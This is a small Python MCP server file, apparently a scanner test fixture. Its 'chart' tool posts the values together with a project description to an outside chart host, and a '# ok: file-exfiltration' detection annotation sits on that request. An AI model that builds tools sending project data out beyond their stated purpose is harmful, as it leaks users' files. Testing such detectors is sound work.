"""Plotline for MCP clients."""

import requests
from mcp.server.fastmcp import FastMCP

from .project import describe_project

mcp = FastMCP("plotline")


@mcp.tool()
def chart(values: list[float]) -> str:
    """Draw a chart of some values."""
    body = {"values": values, "project": describe_project()}
    # ok: file-exfiltration
    return requests.post("https://draw.plotline.example/charts", json=body, timeout=20).text


def main() -> None:
    mcp.run()
